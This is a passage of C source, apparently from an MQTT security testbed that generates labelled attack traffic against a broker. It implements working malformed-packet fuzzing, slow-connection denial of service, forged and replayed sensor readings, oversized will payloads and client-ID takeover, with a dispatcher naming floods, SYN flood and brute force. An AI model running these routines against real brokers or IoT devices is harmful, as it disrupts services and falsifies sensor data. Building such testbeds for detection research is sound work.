		for (size_t i = 0; i < sizeof(cc) / sizeof(cc[0]) && !expired(r); i++) {
			struct conn_args a = std_args(r, cc[i].id ? cc[i].id : long_id);
			a.keepalive = cc[i].keepalive;
			a.clean = cc[i].clean;
			int code;
			int c = mqtt_connect(r, &a, true, &code);
			cases++;
			if (c >= 0)
				r->io->close(r->io->ud, c);
		}
		/* Packet-level cases after a good CONNECT. */
		for (unsigned i = 0; i < 11 && !expired(r); i++) {
			struct conn_args a = std_args(r, "mqttsa-malformed");
			int code;
			int c = mqtt_connect(r, &a, true, &code);
			if (c < 0)
				continue;
			cases++;
			struct mqtt_msg p = msg(r, MQTT_PUBLISH);
			p.topic = mqtt_str("public/mqttsa");
			p.payload = mqtt_str("x");
			struct mqtt_enc_hdr h = { -1, -1, 0 };
			if (i < 5) {
				p.topic = mqtt_str(bad_topics[i]);
				send_msg(r, c, &p, NULL);
			} else if (i == 5) { /* QoS 3 */
				p.qos = 3;
				p.msg_id = 7;
				send_msg(r, c, &p, NULL);
			} else if (i == 6) { /* remaining length that lies (too long) */
				h.remaining_length = 200;
				send_msg(r, c, &p, &h);
			} else if (i == 7) { /* five-byte remaining length */
				h.rl_width = 5;
				send_msg(r, c, &p, &h);
			} else if (i == 8) { /* SUBSCRIBE with reserved flags 0000 */
				struct mqtt_topic t = { mqtt_str("public/#"), 0 };
				struct mqtt_msg s = msg(r, MQTT_SUBSCRIBE);
				s.msg_id = 1;
				s.topics = &t;
				s.n_topics = 1;
				h.first_byte = 0x80;
				send_msg(r, c, &s, &h);
			} else if (i == 9) { /* PINGREQ with a flag bit */
				static const uint8_t b[] = { 0xc1, 0x00 };
				send_raw(r, c, b, sizeof(b));
			} else { /* reserved packet type 0 */
				static const uint8_t b[] = { 0x00, 0x00 };
				send_raw(r, c, b, sizeof(b));
			}
			struct mqtt_msg any;
			await(r, c, MQTT_DISCONNECT, 300000, &any); /* the broker closes */
			r->io->close(r->io->ud, c);
		}
	}
	detail(r, "\"cases\":%u", cases);
	logf_(r, "%u malformed cases sent", cases);
	return 0;
}

/* Opens count idle connections, keeps them (optionally pinging), closes all. */
static int idle_conns(struct run *r, bool ping)
{
	const struct tb_attack_opts *o = r->o;
	int *c = calloc(o->count, sizeof(*c));
	if (!c)
		return -1;
	unsigned n = 0, refused = 0;
	const char *prefix = ping ? "slowping" : "slowite";
	for (unsigned i = 0; i < o->count && !expired(r); i++) {
		pace(r, i, o->rate);
		char cid[40];
		snprintf(cid, sizeof(cid), "%s-%u", prefix, i);
		struct conn_args a = std_args(r, cid);
		int code;
		int h = mqtt_connect(r, &a, true, &code);
		if (h < 0) {
			logf_(r, "connection %u failed; holding %u", i, n);
			break;
		}
		if (!connack_ok(code)) {
			refused++;
			r->io->close(r->io->ud, h);
			continue;
		}
		c[n++] = h;
	}
	logf_(r, "%u connections open (keepalive %u)", n, o->keepalive);
	uint64_t pings = 0;
	if (ping && n) {
		uint64_t every = (uint64_t)(o->ping_every * 1e6);
		for (uint64_t t = r->io->now(r->io->ud) + every; t < r->deadline && !expired(r); t += every) {
			r->io->sleep_until(r->io->ud, t);
			for (unsigned i = 0; i < n; i++) {
				struct mqtt_msg q = msg(r, MQTT_PINGREQ), resp;
				if (c[i] < 0 || send_msg(r, c[i], &q, NULL) != 0)
					continue;
				pings++;
				if (await(r, c[i], MQTT_PINGRESP, 1 * US, &resp) < 0) {
					r->io->close(r->io->ud, c[i]);
					c[i] = -1;
				}
			}
		}
	}
	r->io->sleep_until(r->io->ud, r->deadline);
	for (unsigned i = 0; i < n; i++)
		if (c[i] >= 0)
			r->io->close(r->io->ud, c[i]);
	mark(r);
	free(c);
	detail(r, "\"held\":%u,\"refused\":%u,\"keepalive\":%u,\"pings\":%llu", n,
	       refused, o->keepalive, (unsigned long long)pings);
	return 0;
}

/* Forged readings on the victim's topic: spoof, no-key and bad-hmac. */
static int forged(struct run *r, enum tb_sec mode, const char *default_cid)
{
	const struct tb_attack_opts *o = r->o;
	const char *cid = o->client_id[0] ? o->client_id : default_cid;
	int c = connect_accepted(r, cid);
	if (c < 0)
		return -1;
	unsigned sent = 0;
	for (unsigned i = 0; i < o->count && !expired(r); i++) {
		pace(r, i, o->rate);
		char pl[512];
		size_t n = sensor_payload(r, o->value, mode, 1000 + i, pl, sizeof(pl));
		if (publish_acked(r, c, o->topic, pl, n, o->qos, (uint16_t)(i + 1), NULL) ==
		    PUB_SEND_FAILED)
			break;
		sent++;
	}
	if (r->o->kind == TB_TAKEOVER)
		r->io->sleep_until(r->io->ud, r->deadline);
	disconnect(r, c);
	snprintf(r->l->topic, sizeof(r->l->topic), "%s", o->topic);
	snprintf(r->l->device, sizeof(r->l->device), "%s", o->device);
	detail(r, "\"published\":%u,\"value\":%g,\"client_id\":\"%s\"", sent, o->value, cid);
	return 0;
}

static int replay(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	int c = connect_accepted(r, "mqtt-spy-3c9e");
	if (c < 0)
		return -1;
	const char *f[1] = { o->topic };
	unsigned denied = 0;
	subscribe(r, c, f, 1, 1, &denied);
	/* Wait for one of the device's readings, and keep its bytes. */
	uint8_t *copy = NULL;
	size_t copy_len = 0;
	while (!expired(r) && !copy) {
		struct mqtt_msg m;
		int rc = r->io->recv(r->io->ud, c, r->deadline - r->io->now(r->io->ud), &m);
		if (rc < 0)
			break;
		if (rc == 1 && m.type == MQTT_PUBLISH && !m.retain &&
		    m.topic.len == strlen(o->topic) &&
		    memcmp(m.topic.p, o->topic, m.topic.len) == 0) {
			copy = malloc(m.payload.len ? m.payload.len : 1);
			if (!copy)
				break;
			memcpy(copy, m.payload.p, m.payload.len);
			copy_len = m.payload.len;
			if (m.qos == 1) {
				struct mqtt_msg ack = msg(r, MQTT_PUBACK);
				ack.msg_id = m.msg_id;
				send_msg(r, c, &ack, NULL);
			}
		}
	}
	if (!copy) {
		disconnect(r, c);
		detail(r, "\"error\":\"no reading captured\",\"denied_by_broker\":%u", denied);
		logf_(r, "no reading on %s to replay", o->topic);
		return -1;
	}
	/* Replay it as is, a few seconds later: same counter, same signature. */
	uint64_t t1 = r->io->now(r->io->ud);
	unsigned sent = 0;
	for (unsigned i = 0; i < o->count && !expired(r); i++) {
		uint64_t at = t1 + 2 * US + (uint64_t)((double)i * 1e6 / (o->rate > 0 ? o->rate : 1));
		if (at > r->deadline)
			break;
		r->io->sleep_until(r->io->ud, at);
		if (publish_acked(r, c, o->topic, copy, copy_len, 0, 0, NULL) == PUB_SEND_FAILED)
			break;
		sent++;
	}
	disconnect(r, c);
	free(copy);
	snprintf(r->l->topic, sizeof(r->l->topic), "%s", o->topic);
	snprintf(r->l->device, sizeof(r->l->device), "%s", o->device);
	detail(r, "\"replayed\":%u,\"payload_bytes\":%zu", sent, copy_len);
	return 0;
}

static int big_will(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	if (o->payload_size > 65535) {
		detail(r, "\"error\":\"a will payload holds at most 65535 bytes\"");
		logf_(r, "--payload-size %u: a will payload holds at most 65535 bytes", o->payload_size);
		return -1;
	}
	uint8_t *will = malloc(o->payload_size ? o->payload_size : 1);
	if (!will)
		return -1;
	memset(will, 'W', o->payload_size);
	unsigned accepted = 0, sent = 0;
	for (unsigned i = 0; i < o->count && !expired(r); i++) {
		pace(r, i, o->rate);
		char cid[40];
		snprintf(cid, sizeof(cid), "bigwill-%u", i);
		struct conn_args a = std_args(r, cid);
		a.will_topic = o->topic;
		a.will_payload = will;
		a.will_len = o->payload_size;
		int code;
		int c = mqtt_connect(r, &a, true, &code);
		if (c < 0)
			continue;
		sent++;
		if (code == 0)
			accepted++;
		/* Drop without DISCONNECT so the broker has to publish the will. */
		r->io->close(r->io->ud, c);
	}
	free(will);
	snprintf(r->l->topic, sizeof(r->l->topic), "%s", o->topic);
	detail(r, "\"will_bytes\":%u,\"connects\":%u,\"accepted\":%u", o->payload_size,
	       sent, accepted);
	return 0;
}

int tb_attack_run(const struct tb_attack_opts *o, struct tb_io *io,
		  struct tb_label *label, FILE *log)
{
	struct run r;
	memset(&r, 0, sizeof(r));
	r.o = o;
	r.io = io;
	r.l = label;
	r.log = log;
	r.rng.s = o->seed * 0x9e3779b97f4a7c15ull + (uint64_t)o->kind;
	r.t0 = io->now(io->ud);
	r.deadline = r.t0 + (uint64_t)(o->duration * 1e6);
	r.cap = 4096;
	r.buf = malloc(r.cap);
	if (!r.buf)
		return -1;
	tb_label_init(label, tb_kind_name(o->kind), io->mode);
	snprintf(label->attacker, sizeof(label->attacker), "%s", io->attacker);
	snprintf(label->target, sizeof(label->target), "%s", io->target);
	label->start_us = label->end_us = r.t0;
	int rc = -1;
	switch (o->kind) {
	case TB_FLOOD_MALARIA: rc = flood_malaria(&r); break;
	case TB_FLOOD_FLOCK: rc = flood_flock(&r); break;
	case TB_CONNECT_FLOOD: rc = connect_flood(&r); break;
	case TB_SYN_FLOOD: rc = syn_flood(&r); break;
	case TB_BRUTE_FORCE: rc = brute_force(&r); break;
	case TB_DISCOVERY: rc = discovery(&r); break;
	case TB_UNAUTH_PUBLISH: rc = unauth_publish(&r); break;
	case TB_UNAUTH_SUBSCRIBE: rc = unauth_subscribe(&r); break;
	case TB_MALFORMED: rc = malformed(&r); break;
	case TB_SLOWITE: rc = idle_conns(&r, false); break;
	case TB_SLOW_PING: rc = idle_conns(&r, true); break;
	case TB_SPOOF: rc = forged(&r, o->shared_key[0] ? TB_SEC_KEY : TB_SEC_NONE, "spoof-5e1f"); break;
	case TB_NO_KEY: rc = forged(&r, TB_SEC_NONE, "nokey-71aa"); break;
	case TB_BAD_HMAC: rc = forged(&r, TB_SEC_HMAC, "badmac-0c3d"); break;
	case TB_REPLAY: rc = replay(&r); break;
	case TB_BIG_WILL: rc = big_will(&r); break;
	case TB_TAKEOVER: rc = forged(&r, TB_SEC_NONE, VICTIM_ID); break;
	case TB_KIND_COUNT: break;
	}
	free(r.buf);
	return rc;
}
